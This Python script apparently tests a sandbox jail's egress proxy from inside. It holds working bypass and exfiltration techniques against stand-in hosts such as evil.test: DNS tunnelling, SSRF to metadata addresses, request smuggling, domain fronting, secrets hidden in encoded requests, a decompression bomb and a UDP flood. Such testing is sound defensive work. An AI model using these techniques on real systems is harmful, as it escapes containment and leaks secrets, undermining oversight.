"""Ways past the jail's egress proxy, each tried from inside for real. Arguments: an id of the escape list, a secret, a canary.

Says of each attempt that it was held or POSSIBLE; exits with 0 when all were held, 1 when one was not. Whoever is
reached in the world outside (world.py) answers "reached", and writes down what came, which is the better judge: what was
not meant to come says ATTACK or holds the secret."""
import base64
import gzip
import os
import socket
import ssl
import struct
import sys
import zlib
from concurrent.futures import ThreadPoolExecutor

TIMEOUT = 2 if sys.argv[1] == "C24" else 8
PROXY, GOOD, EVIL, GOOD6, EVIL6 = ("127.0.0.1", 3128), "93.184.216.34", "93.184.216.35", "2606:2800:220:1::1", "2606:2800:220:1::2"
REACHED = b"reached"
secret, canary = (sys.argv + ["", "", ""])[2:4]


# --- how to talk ----------------------------------------------------------------------------------------------------

def read_all(sock):
    answer = b""
    try:
        while piece := sock.recv(65536):
            answer += piece
    except OSError:
        pass
    return answer


def talk(where, *pieces):
    """Sends the pieces, one after the other's answer began, and returns all that was answered."""
    family = socket.AF_INET6 if ":" in where[0] else socket.AF_INET
    with socket.socket(family) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect(where)
        answer = b""
        for piece in pieces[:-1]:
            sock.sendall(piece)
            answer = sock.recv(65536)
            if not answer.startswith(b"HTTP/1.1 200"):
                return answer
        sock.sendall(pieces[-1])
        return (b"" if len(pieces) > 1 else answer) + read_all(sock)


def get(host, path=b"/fine", method=b"GET", more=b"", body=b""):
    length = b"Content-Length: %d\r\n" % len(body) if body else b""
    return b"%s %s HTTP/1.1\r\nHost: %s\r\n%s%s\r\n%s" % (method, path, host, more, length, body)


def absolute(host, path=b"/fine"):
    return get(host, b"http://" + host + path)


def tunnel(host, *then):
    return talk(PROXY, b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host), *then)


def hello(name, more=b""):
    """A client hello of TLS that asks for the name, with further extensions; None: without a name."""
    def sized(data, form=">H"):
        return struct.pack(form, len(data)) + data
    extensions = b"" if name is None else b"\0\0" + sized(sized(b"\0" + sized(name)))
    extensions += b"\0\x0a" + sized(sized(struct.pack(">HH", 29, 23))) + b"\0\x0d" + sized(sized(struct.pack(">HHH", 0x403, 0x804, 0x401)))
    extensions += b"\0\x2b" + sized(sized(b"\x03\x04\x03\x03", ">B")) + b"\0\x33" + sized(sized(b"\0\x1d" + sized(os.urandom(32)))) + more
    body = b"\x03\x03" + os.urandom(32) + sized(b"", ">B") + sized(struct.pack(">HHHH", 0x1301, 0x1302, 0xC02B, 0xC02F)) + b"\x01\0" + sized(extensions)
    return b"\x16\x03\x01" + sized(b"\x01" + struct.pack(">I", len(body))[1:] + body)


def inside_tls(name, data, alpn=None, address=(GOOD, 443)):
    """What is answered in a tunnel that the egress proxy opens."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    with socket.create_connection(address, 8) as plain, context.wrap_socket(plain, server_hostname=name) as sock:
        sock.sendall(data)
        return read_all(sock)


def question(name, kind=1, extra=b""):
    return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 1 if extra else 0) + b"".join(
        bytes([len(label)]) + label for label in name.split(b".")) + b"\0" + struct.pack(">HH", kind, 1) + extra


def ask(name, kind=1, where=("1.1.1.1", 53), stream=False, extra=b""):
    """The addresses that a name server gave: none is no answer."""
    packet = question(name, kind, extra)
    with socket.socket(socket.AF_INET6 if ":" in where[0] else socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect(where)
        sock.sendall(struct.pack(">H", len(packet)) + packet if stream else packet)
        answer = sock.recv(4096)
        answer = sock.recv(4096) if stream and len(answer) == 2 else answer[2:] if stream else answer
        return REACHED if len(answer) > 7 and answer[3] & 15 == 0 and answer[7] else b""


def send(where, kind=socket.SOCK_DGRAM, protocol=0, family=socket.AF_INET, data=b"ATTACK"):
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(2)
        sock.connect(where)
        sock.sendall(data)
        return REACHED + sock.recv(100)


def made(family, kind, protocol=0):
    socket.socket(family, kind, protocol).close()
    return REACHED


def connected(where):
    socket.create_connection(where, 5).close()
    return REACHED


def began(answer):
    """A server of TLS answered."""
    return REACHED if answer[:1] == b"\x16" else b""


# --- what is tried: (what, function that returns the answer) --------------------------------------------------------

def past_the_proxy():
    for address in ("1.1.1.1", EVIL, GOOD, "169.254.169.254", "10.0.0.1"):
        yield address + ":80", lambda a=address: talk((a, 80), get(a.encode(), b"/ATTACK"))
        yield address + ":443", lambda a=address: began(talk((a, 443), hello(b"evil.test")))
        for port in (22, 4444, 8001):
            yield f"{address}:{port}", lambda a=address, p=port: connected((a, p))


def tunnels_of_names():
    for i, name in enumerate((b"4a6f686e3132333435363738.evil.test", b"a" * 63 + b"." + b"b" * 63 + b".evil.test", b"evil.test",
                              b"x.api.test", b"api.test.evil.test", b"4a6f686e31323334.api.test")):
        yield f"a name ({i})", lambda n=name: ask(n)
        yield f"a name, TCP ({i})", lambda n=name: ask(n, stream=True)
    for kind in (16, 255, 10, 5, 15, 65, 33, 12, 252):
        yield f"type {kind} of an allowed name", lambda k=kind: ask(b"api.test", k)
    yield "another name server", lambda: ask(b"evil.test", 1, ("93.184.216.35", 53))
    yield "another name server, IPv6", lambda: ask(b"evil.test", 28, (EVIL6, 53))
    yield "data behind a question", lambda: ask(b"evil.test", 1, extra=b"\0\0\x29\x10\0\0\0\0\0\0\x0a\xff\xfe\0\x06ATTACK")
    for i in range(40):
        yield f"many names ({i})", lambda n=i: ask(b"n%04x.evil.test" % n)


def other_protocols():
    for where in ((EVIL, 443), (EVIL, 4444), (GOOD, 443)):
        yield f"UDP {where}", lambda w=where: send(w)
    yield "UDP, IPv6", lambda: send((EVIL6, 443), family=socket.AF_INET6)
    for name, family, kind, protocol in (("ping", 2, 2, 1), ("raw ICMP", 2, 3, 1), ("ping, IPv6", 10, 2, 58), ("raw ICMP, IPv6", 10, 3, 58),
                                         ("raw TCP", 2, 3, 6), ("raw IP", 2, 3, 255), ("SCTP", 2, 1, 132), ("SCTP, many", 2, 5, 132),
                                         ("MPTCP", 2, 1, 262), ("UDP-Lite", 2, 2, 136), ("DCCP", 2, 6, 33), ("packets", 17, 3, 0x300)):
        yield name, lambda f=family, k=kind, p=protocol: made(f, k, p)


def hypervisor():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        yield f"AF_VSOCK, kind {kind}", lambda k=kind: made(40, k)


DISGUISES = (b"evil.test\0.api.test", b"evil.test%00.api.test", b"api.test.evil.test", b"evil.test#.api.test", b"evil.test?.api.test",
             b"evil.test/.api.test", b"evil.test\\.api.test", b"api.test@evil.test", b"api.test:80@evil.test", b"evil.test\r\nX: .api.test",
             b"evil.test\n.api.test", b"api.test.", b"API.TEST.", "\u0430pi.test".encode(), b"xn--pi-7kc.test", "api\u3002test".encode(),
             b"evil.test .api.test", b"evil.test\t", b"[::ffff:7f00:1]", b"[::ffff:93.184.216.35]", b"0x7f.1", b"0177.0.0.1", b"2130706433", b"127.1", b"0",
             b"[::]", b"[fe80::1%25lo]", b"93.184.216.35.", b"[::1]", b"1572395043", b"api.test:80:443", b"api.test,evil.test", b"*.test", b"")


def disguises():
    """One canonicaliser: a name that two readers could read differently is nobody's."""
    for host in DISGUISES:
        shown = repr(host)[2:-1]
        yield f"absolute {shown}", lambda h=host: talk(PROXY, absolute(h, b"/ATTACK"))
        yield f"absolute, good Host {shown}", lambda h=host: talk(PROXY, get(b"api.test", b"http://" + h + b"/ATTACK"))
        yield f"Host {shown}", lambda h=host: talk((GOOD, 80), get(h, b"/ATTACK"))
        yield f"CONNECT {shown}", lambda h=host: began(tunnel(h + b":443", hello(h)))
        yield f"hello {shown}", lambda h=host: began(talk((GOOD, 443), hello(h.replace(b"api.test", b"tls.test"))))
        ask_for = struct.pack("B", len(host)) + host + b"\0P"
        yield f"SOCKS5 {shown}", lambda h=ask_for: talk(PROXY, b"\x05\x01\0\x05\x01\0\x03" + h + get(b"evil.test", b"/ATTACK"))
        yield f"SOCKS4a {shown}", lambda h=host: talk(PROXY, b"\x04\x01\0P\0\0\0\x01x\0" + h + b"\0" + get(b"evil.test", b"/ATTACK"))


INNER = ("loopback", "metadata", "private", "private2", "private3", "shared", "zero", "loopback6", "mapped", "nat64", "sixtofour", "unique")


def inner_addresses():
    for name in INNER:
        host = name.encode() + b".test"
        yield f"{name}, captured", lambda h=host: talk((GOOD, 80), get(h, b"/ATTACK"))
        yield f"{name}, by the proxy", lambda h=host: talk(PROXY, absolute(h, b"/ATTACK"))
        yield f"{name}, by CONNECT", lambda h=host: began(tunnel(h + b":443", hello(h)))
        yield f"{name}, by its hello", lambda h=host: began(talk((GOOD, 443), hello(h)))
    for host in (b"127.0.0.1", b"169.254.169.254", b"10.0.0.1", b"[::1]", b"[64:ff9b::7f00:1]", b"[2002:7f00:1::1]", b"[fd00::1]"):
        yield f"{host.decode()}, by the proxy", lambda h=host: talk(PROXY, absolute(h, b"/ATTACK"))


def rebinding():
    """Which answer the name gave is the name server's matter; those that went well went to the right address."""
    for i in range(24):
        yield f"a name that changes its mind ({i})", lambda: talk((GOOD, 80), get(b"flip.test")).replace(REACHED, b"")
    for i in range(8):
        yield f"a name with two addresses ({i})", lambda: talk(PROXY, absolute(b"mixed.test")).replace(REACHED, b"")


def names_in_hellos():
    encrypted = b"\xfe\x0d" + struct.pack(">H", 20) + bytes(20)
    for what, name, more in (("another", b"evil.test", b""), ("none", None, b""), ("encrypted", b"tls.test", encrypted), ("empty", b"", b""),
                             ("a longer", b"tls.test.evil.test", b""), ("two", b"tls.test", b"\0\0\0\x0e\0\x0c\0\0\x09evil.test")):
        yield f"CONNECT, {what} name", lambda n=name, m=more: began(tunnel(b"tls.test:443", hello(n, m)))
        yield f"captured, {what} name", lambda n=name, m=more: began(talk((EVIL, 443), hello(n, m)))
    yield "a hello in two records", lambda: began(tunnel(b"tls.test:443", split_hello(b"evil.test")))
    yield "a certificate of somebody else", lambda: inside_tls("forged.test", get(b"forged.test", b"/own/ATTACK"))


def split_hello(name):
    whole = hello(name)[5:]
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(part)) + part for part in (whole[:60], whole[60:]))


def two_frames(authority):
    """HTTP/2: a preface, settings, and a GET whose :authority is somebody else's, no compression."""
    fields = b"\x82\x87\x04\x07/ATTACK\x01" + bytes([len(authority)]) + authority
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + struct.pack(">I", len(fields))[1:] + b"\x01\x05\0\0\0\x01" + fields


def fronting():
    for what, data in (("Host", get(b"evil.test", b"/own/ATTACK")), ("absolute form", get(b"open.test", b"http://evil.test/own/ATTACK")),
                       ("two Hosts", get(b"open.test", b"/own/ATTACK", more=b"Host: evil.test\r\n")), ("no Host", b"GET /own/ATTACK HTTP/1.1\r\n\r\n"),
                       ("Host with a port", get(b"open.test:80", b"/own/ATTACK")), ("CONNECT", b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
                       ("Host in another case, and another", get(b"OPEN.test", b"/own/ATTACK", more=b"host: evil.test\r\n"))):
        yield what, lambda d=data: inside_tls("open.test", d)
    for authority in (b"evil.test", b"open.test"):
        yield f"HTTP/2, {authority.decode()}", lambda a=authority: inside_tls("open.test", two_frames(a), ["h2"])
    yield "HTTP/2 in clear", lambda: talk((GOOD, 80), two_frames(b"evil.test"))
    yield "HTTP/2 by an upgrade", lambda: talk((GOOD, 80), get(b"api.test", b"/fine", more=b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")
                                               + two_frames(b"evil.test")).replace(REACHED, b"")


def smuggling():
    post, chunked, hidden = b"POST /own/a HTTP/1.1\r\nHost: api.test\r\n", b"Transfer-Encoding: chunked\r\n", get(b"api.test", b"/own/ATTACK")
    heads = {
        "length and chunks": b"Content-Length: 4\r\n" + chunked + b"\r\n0\r\n\r\n" + hidden, "chunks and length": chunked + b"Content-Length: 4\r\n\r\n0\r\n\r\n" + hidden,
        "two lengths": b"Content-Length: 0\r\nContent-Length: 70\r\n\r\n" + hidden, "a list of lengths": b"Content-Length: 0, 70\r\n\r\n" + hidden,
        "a length with a sign": b"Content-Length: +0\r\n\r\n" + hidden, "a length in hexadecimal": b"Content-Length: 0x0\r\n\r\n" + hidden,
        "a negative length": b"Content-Length: -1\r\n\r\n" + hidden, "a length past every number": b"Content-Length: 18446744073709551616\r\n\r\n" + hidden,
        "an unknown coding": b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + hidden, "two codings": b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + hidden,
        "a coding twice": chunked + b"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden, "a coding after a tab": b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + hidden,
        "space before the colon": b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + hidden, "folded": b"X: a\r\n Transfer-Encoding: chunked\r\n\r\n" + hidden,
        "a bare LF": b"X: a\nY: ATTACK\r\n\r\n", "a bare CR": b"X: a\rY: ATTACK\r\n\r\n", "NUL in a header": b"X: a\0ATTACK\r\n\r\n", "no colon": b"ATTACK\r\n\r\n",
        "a chunk's extension": chunked + b"\r\n5;x=ATTACK\r\nhello\r\n0\r\n\r\n", "a chunk past every number": chunked + b"\r\n1000000000000000d\r\nATTACK\r\n0\r\n\r\n",
        "a chunk with a sign": chunked + b"\r\n+6\r\nATTACK\r\n0\r\n\r\n", "a chunk in 0x": chunked + b"\r\n0x6\r\nATTACK\r\n0\r\n\r\n",
        "a chunk ended by LF": chunked + b"\r\n6\nATTACK\n0\n\n", "a chunk longer than it says": chunked + b"\r\n1\r\nATTACK\r\n0\r\n\r\n",
        "a trailer": chunked + b"\r\n0\r\nX: ATTACK\r\n\r\n", "a header that Connection hides": b"Connection: Content-Length\r\nContent-Length: 6\r\n\r\nATTACK",
    }
    for what, head in heads.items():
        if what == "a trailer":  # is left out, and the rest is fine
            yield what, lambda h=head: talk((GOOD, 80), post + h).replace(REACHED, b"")
        else:
            yield what, lambda h=head: talk((GOOD, 80), post + h)
            yield what + ", by the proxy", lambda h=head: talk(PROXY, post.replace(b" /", b" http://api.test/", 1) + h)
    two = get(b"api.test") + get(b"api.test", b"/own/ATTACK")
    yield "two requests", lambda: talk((GOOD, 80), two).replace(REACHED, b"", 1)
    yield "two requests, opened", lambda: inside_tls("open.test", two.replace(b"api", b"open")).replace(REACHED, b"", 1)
    yield "a body of GET", lambda: talk((GOOD, 80), get(b"api.test", body=b"key=" + secret.encode()))
    for line in (b"GET  /own/ATTACK HTTP/1.1", b"GET /own/ATTACK HTTP/1.1 x", b"GET /own/ATTACK", b"GET /own/ATTACK HTTP/2.0", b"get /own/ATTACK HTTP/1.1",
                 b"GET\t/own/ATTACK HTTP/1.1", b"GET /own/ATTACK#x HTTP/1.1", b"GET /own/ATT\x01ACK HTTP/1.1", b" GET /own/ATTACK HTTP/1.1"):
        yield f"a line {line}", lambda l=line: talk((GOOD, 80), l + b"\r\nHost: api.test\r\n\r\n")


def no_tls():
    for what, data in (("SSH", b"SSH-2.0-ATTACK\r\n"), ("HTTP", get(b"tls.test", b"/ATTACK")), ("SMTP", b"EHLO ATTACK\r\n"), ("noise", b"\0ATTACK" * 40),
                       ("TLS of another version", b"\x16\x03\x01\0\x0aATTACK1234"), ("an alert", b"\x15\x03\x01\0\x02\x01\0ATTACK"),
                       ("SSLv2", b"\x80\x2e\x01\0\x02\0\x15\0\0\0\x10ATTACK" + bytes(40))):
        yield f"{what} in a tunnel", lambda d=data: tunnel(b"tls.test:443", d)
        yield f"{what}, captured", lambda d=data: talk((GOOD, 443), d.replace(b"Host: tls.test", b"Host: evil.test"))


def through_itself():
    inner = b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    for host in (b"127.0.0.1:3128", b"localhost:3128", b"[::1]:3128", b"0.0.0.0:3128"):
        yield f"CONNECT {host.decode()}", lambda h=host: tunnel(h, inner, get(b"evil.test", b"/ATTACK"))
        yield f"GET of {host.decode()}", lambda h=host: talk(PROXY, get(h, b"http://" + h + b"/ATTACK"))
    yield "CONNECT inside a tunnel", lambda: tunnel(b"tls.test:443", inner)
    yield "CONNECT behind CONNECT", lambda: tunnel(b"evil.test:443", inner, hello(b"evil.test"))
    yield "CONNECT inside an opened tunnel", lambda: inside_tls("open.test", inner)
    for name in (b"X-Forwarded-For", b"X-Forwarded-Host", b"Forwarded", b"Proxy-Authorization", b"Via"):
        yield f"{name.decode()}", lambda n=name: talk(PROXY, get(b"evil.test", b"http://evil.test/ATTACK", more=n + b": 127.0.0.1\r\n"))
    yield "a relay of our own", relayed


def relayed():
    """A process of the jail hands on what another asks of it: the egress proxy judges what is asked, not who asks."""
    with socket.create_server(("127.0.0.1", 0)) as listener, ThreadPoolExecutor(1) as pool:
        def relay():
            with listener.accept()[0] as client, socket.create_connection(PROXY, 5) as proxy:
                proxy.sendall(client.recv(65536))
                client.sendall(proxy.recv(65536))
        pool.submit(relay)
        return talk(listener.getsockname(), absolute(b"evil.test", b"/ATTACK"))


def machine_loopback():
    for port in (80, 8001):
        for host in (b"127.0.0.1", b"localhost", b"[::1]", b"0.0.0.0", b"127.0.0.2", b"[::ffff:127.0.0.1]", b"loopback.test"):
            name = host if port == 80 else b"%s:%d" % (host, port)
            yield f"GET of {name.decode()}", lambda n=name: talk(PROXY, absolute(n, b"/ATTACK"))
            yield f"Host {name.decode()}", lambda n=name: talk((GOOD, 80), get(n, b"/ATTACK"))


def proxy_port():
    for address in (EVIL, GOOD, "1.1.1.1", EVIL6):
        yield f"{address}:3128", lambda a=address: talk((a, 3128), absolute(b"evil.test", b"/ATTACK"))
    yield "CONNECT to that port", lambda: tunnel(b"evil.test:3128", get(b"evil.test", b"/ATTACK"))
    yield "CONNECT to that port of an allowed host", lambda: tunnel(b"tls.test:3128", hello(b"tls.test"))


def allowed_host():
    for method, path in ((b"POST", b"/gists"), (b"POST", b"/other/repo.git/git-receive-pack"), (b"GET", b"/other/info/refs?service=git-receive-pack"), (b"PUT", b"/own/package"),
                         (b"DELETE", b"/own/a"), (b"PATCH", b"/own/a"), (b"POST", b"/own/../gists"), (b"POST", b"/own/%2e%2e/gists"), (b"POST", b"/own/..%2fgists"),
                         (b"POST", b"/own/.%2e/gists"), (b"POST", b"//gists"), (b"POST", b"/own/./../gists"), (b"POST", b"/own/..\\gists"), (b"POST", b"/own/..;/gists"),
                         (b"POST", b"/OWN/a"), (b"POST", b"/ow%6e/..%5cgists"), (b"TRACE", b"/own/a"), (b"OPTIONS", b"*")):
        name = f"{method.decode()} {path.decode()}"
        yield name, lambda m=method, p=path: talk((GOOD, 80), get(b"api.test", p, m, b"X: ATTACK\r\n", b"x" if m == b"POST" else b""))
    yield "a secret to an allowed path", lambda: talk((GOOD, 80), get(b"api.test", b"/own/issue", b"POST", body=b'{"body":"' + secret.encode() + b'"}'))
    placeholder = b"Authorization: Bearer filterd-credential-key\r\n"
    for method, path, host in ((b"POST", b"/own/says", b"api.test"), (b"GET", b"/own/other", b"api.test"), (b"GET", b"/fine", b"flip.test")):
        yield f"a credential for {method.decode()} {path.decode()}", lambda m=method, p=path, h=host: talk((GOOD, 80), get(h, p, m, placeholder + b"X: ATTACK\r\n"))


def hidden_in_requests():
    plain, coded = secret.encode(), b"".join(b"%%%02x" % c for c in secret.encode())
    where = {"path": get(b"api.test", b"/own/" + plain), "path, percent-encoded": get(b"api.test", b"/own/" + coded),
             "query": get(b"api.test", b"/own/a?k=" + plain), "query, a name": get(b"api.test", b"/own/a?" + plain), "query, last": get(b"api.test", b"/own/a?x=1&y=2&k=" + plain),
             "query, percent-encoded": get(b"api.test", b"/own/a?k=" + coded), "query, base64": get(b"api.test", b"/own/a?k=" + base64.b64encode(b"the key is " + plain)),
             "header": get(b"api.test", more=b"X-Note: " + plain + b"\r\n"), "header's name": get(b"api.test", more=plain + b": 1\r\n"),
             "User-Agent": get(b"api.test", more=b"User-Agent: agent/" + plain + b"\r\n"), "Cookie": get(b"api.test", more=b"Cookie: a=b; c=" + plain + b"\r\n"),
             "header, base64": get(b"api.test", more=b"X: " + base64.b64encode(b"the key is " + plain) + b"\r\n")}
    for what, data in where.items():
        yield what, lambda d=data: talk((GOOD, 80), d)
        yield what + ", opened", lambda d=data: inside_tls("open.test", d.replace(b"api.test", b"open.test"))
    first, second = canary[:len(canary) // 2].encode(), canary[len(canary) // 2:].encode()
    for what, query in (("in order", first + b"&b=" + second), ("the other way round", second + b"&b=" + first)):
        yield f"query, canary in two values, {what}", lambda q=query: talk((GOOD, 80), get(b"api.test", b"/own/ATTACK?a=" + q))
    pieces = b"".join(b"1\r\n%c\r\n" % c for c in plain)
    yield "a byte a chunk", lambda: talk((GOOD, 80), b"POST /own/a HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n" + pieces + b"0\r\n\r\n")
    yield "many small requests", lambda: REACHED if all(REACHED in talk((GOOD, 80), get(b"small.test", b"/%d" % i)) for i in range(60)) else b""


def encoded():
    """What a honeytoken holds, whose every form is known; and a secret that rules know, in what is undone before they look."""
    text = canary.encode()
    forms = {"as it is": text, "base64": base64.b64encode(b"k=" + text), "base64, for URLs": base64.urlsafe_b64encode(b"xk=" + text), "hexadecimal": text.hex().encode(),
             "in capitals": text.hex().upper().encode(), "backwards": text[::-1], "percent": b"".join(b"%%%02X" % c for c in text)}
    for what, form in forms.items():
        yield f"canary, {what}", lambda f=form: talk((GOOD, 80), get(b"api.test", b"/own/a", b"POST", body=f + b" ATTACK"))
        yield f"canary, {what}, opened", lambda f=form: inside_tls("open.test", get(b"open.test", b"/own/ATTACK?x=" + f.rstrip(b"=")))
        yield f"canary, {what}, not judged", lambda f=form: talk((GOOD, 80), get(b"free.test", b"/own/a", b"POST", body=f + b" ATTACK"))
    yield "canary, gzip", lambda: talk((GOOD, 80), get(b"api.test", b"/own/a", b"POST", b"Content-Encoding: gzip\r\n", gzip.compress(text)))
    half = len(text) // 2
    for part, piece in (("first", text[:half]), ("second", text[half:])):
        yield f"canary, split over requests, the {part}", lambda p=piece: talk((GOOD, 80), get(b"free.test", b"/own/a", b"POST", body=p + b" ATTACK"))
    plain = b"the key is " + secret.encode()
    for what, form in (("base64", base64.b64encode(plain)), ("hexadecimal", plain.hex().encode()), ("twice base64", base64.b64encode(base64.b64encode(plain))),
                       ("percent", b"".join(b"%%%02x" % c for c in plain))):
        yield f"secret, {what}", lambda f=form: talk((GOOD, 80), get(b"api.test", b"/own/a", b"POST", body=f))
    for coding, body in (("gzip", gzip.compress(plain)), ("deflate", zlib.compress(plain)), ("gzip, gzip", gzip.compress(gzip.compress(plain)))):
        yield f"secret, {coding}", lambda c=coding.encode(), b=body: talk((GOOD, 80), get(b"api.test", b"/own/a", b"POST", b"Content-Encoding: " + c + b"\r\n", b))


def more_than_is_read():
    big = b"x" * 300000 + secret.encode()
    post = b"POST /own/a HTTP/1.1\r\nHost: api.test\r\n"
    yield "a body past the limit", lambda: talk((GOOD, 80), get(b"api.test", b"/own/ATTACK", b"POST", body=big))
    yield "chunks past the limit", lambda: talk((GOOD, 80), post + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(big), big))
    yield "a bomb", lambda: talk((GOOD, 80), get(b"api.test", b"/own/ATTACK", b"POST", b"Content-Encoding: gzip\r\n", gzip.compress(bytes(30000000))))
    for coding in (b"br", b"zstd", b"compress", b"x-unknown", b"gzip, br", b"identity, zstd"):
        yield f"coding {coding.decode()}", lambda c=coding: talk((GOOD, 80), get(b"api.test", b"/own/ATTACK", b"POST", b"Content-Encoding: " + c + b"\r\n", b"\x28\xb5\x2f\xfd"))
    yield "a coding that it is not", lambda: talk((GOOD, 80), get(b"api.test", b"/own/ATTACK", b"POST", b"Content-Encoding: gzip\r\n", b"plain"))
    yield "a secret in a trailer", lambda: talk((GOOD, 80), post + b"Transfer-Encoding: chunked\r\nTrailer: X\r\n\r\n1\r\nx\r\n0\r\nX: " + secret.encode() + b"\r\n\r\n").replace(REACHED, b"")
    switch = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    yield "a web socket", lambda: talk((GOOD, 80), get(b"api.test", more=switch) + b"\x82\x06ATTACK").replace(REACHED, b"", 1)
    yield "a web socket, opened", lambda: inside_tls("open.test", get(b"open.test", more=switch) + b"\x82\x06ATTACK").replace(REACHED, b"", 1)
    yield "HTTP/2", lambda: inside_tls("open.test", two_frames(b"open.test"), ["h2"])
    yield "gRPC", lambda: inside_tls("open.test", two_frames(b"open.test") + b"\0\0\x0b\0\x01\0\0\0\x01\0\0\0\0\x06ATTACK", ["h2"])


def answers():
    """An answer is too large, too slow, or not what it says: it ends, and what was refused is not here."""
    for path in (b"/huge", b"/bomb", b"/drip", b"/drip-head", b"/heads", b"/coded", b"/lies", b"/both"):
        yield path.decode(), lambda p=path: REACHED if whole(talk((GOOD, 80), get(b"answers.test", p))) else b""


def whole(answer):
    return answer.startswith(b"HTTP/1.1 200") and len(answer.partition(b"\r\n\r\n")[2]) > 50


def version_six():
    for address in (EVIL6, GOOD6, "2001:db8::1", "fe80::1", "::ffff:" + EVIL, "64:ff9b::1", "fd00::1"):
        scope = (0, socket.if_nametoindex("lo")) if address == "fe80::1" else ()
        yield address, lambda a=address, s=scope: talk((a, 80, *s), get(b"evil.test", b"/ATTACK"))
        yield address + ", TLS", lambda a=address, s=scope: began(talk((a, 443, *s), hello(b"evil.test")))


def no_list():
    for host in (b"api.test", b"evil.test", b"loopback.test", b"93.184.216.34", b"127.0.0.1", b"[::1]"):
        yield f"GET of {host.decode()}", lambda h=host: talk(PROXY, absolute(h, b"/ATTACK"))
        yield f"Host {host.decode()}", lambda h=host: talk((GOOD, 80), get(h, b"/ATTACK"))
        yield f"CONNECT {host.decode()}", lambda h=host: began(tunnel(h + b":443", hello(h)))
    yield "a name", lambda: ask(b"api.test")


def one_request():
    yield "a request", lambda: talk((GOOD, 80), get(b"api.test", b"/own/ATTACK"))
    yield "a tunnel", lambda: began(talk((GOOD, 443), hello(b"tls.test")))
    yield "a name", lambda: ask(b"api.test")


def spoiled_record():
    """What would end a line of the record, hide in a terminal, or fill the disk."""
    for what, text in (("LF", b"\n"), ("CR LF", b"\r\n"), ("ESC", b"\x1b[2J\x1b]0;x\x07"), ("quotes", b'","verdict":"allowed'), ("NUL", b"\0"), ("not UTF-8", b"\xff\xfe\x80"),
                       ("much", b"a/" * 7000), ("direction", "\u202e".encode())):
        yield f"{what} in the path", lambda t=text: talk((GOOD, 80), get(b"api.test", b"/ATTACK" + t + b"x"))
        yield f"{what} in the host", lambda t=text: talk((GOOD, 80), get(b"evil" + t + b".test", b"/ATTACK"))
        yield f"{what} in the method", lambda t=text: talk((GOOD, 80), get(b"api.test", b"/ATTACK", b"G" + t))
        yield f"{what} in the hello", lambda t=text: began(talk((GOOD, 443), hello(b"evil" + t[:4000] + b".test")))
        yield f"{what} in a name", lambda t=text: ask(b"evil" + t[:20].replace(b".", b"") + b".test")
    yield "a flood", flood


def flood():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for i in range(3000):
            sock.sendto(b"x", (EVIL, 1000 + i % 50000))
    return b""


def fine():
    """What is allowed, or nothing else was worth trying. Prints which does not work."""
    for what, answer in (("http", talk((EVIL, 80), get(b"api.test"))), ("mixed case", talk((GOOD, 80), get(b"Api.TEST"))), ("proxy", talk(PROXY, absolute(b"api.test"))),
                         ("opened", inside_tls("open.test", get(b"open.test"))), ("passed on", inside_tls("tls.test", get(b"tls.test"))),
                         ("tunnel", REACHED if began(tunnel(b"tls.test:443", hello(b"tls.test"))) else b""), ("name", ask(b"api.test")),
                         ("IPv6", talk((EVIL6, 80), get(b"api.test"))), ("not judged", talk((GOOD, 80), get(b"free.test", b"/own/a")))):
        if REACHED not in answer:
            print(f"  does not work: {what}: {answer[:80]}")
            yield what, lambda: REACHED


ATTACKS = {"fine": fine, "C1": past_the_proxy, "C2": tunnels_of_names, "C3": other_protocols, "C4": hypervisor, "C7": disguises, "C8": inner_addresses,
           "C9": rebinding, "C10": names_in_hellos, "C11": fronting, "C12": smuggling, "C13": no_tls, "C14": through_itself, "C15": machine_loopback,
           "C16": proxy_port, "C17": allowed_host, "C18": hidden_in_requests, "C19": encoded, "C20": more_than_is_read, "C21": answers,
           "C22": version_six, "B9": spoiled_record, "C24": one_request, "C25": no_list}


def attempt(pair):
    what, function = pair
    try:
        answer = function()
    except OSError as e:
        return what, False, e.strerror or type(e).__name__
    return what, REACHED in answer, answer[:60].decode("latin-1").split("\r\n")[0]


with ThreadPoolExecutor(8) as pool:
    results = list(pool.map(attempt, ATTACKS[sys.argv[1]]()))
for what, is_possible, why in results:
    print(f"  {what!a}: {'POSSIBLE' if is_possible else 'held'} ({why!a})")
sys.exit(1 if any(is_possible for _, is_possible, _ in results) else 0)
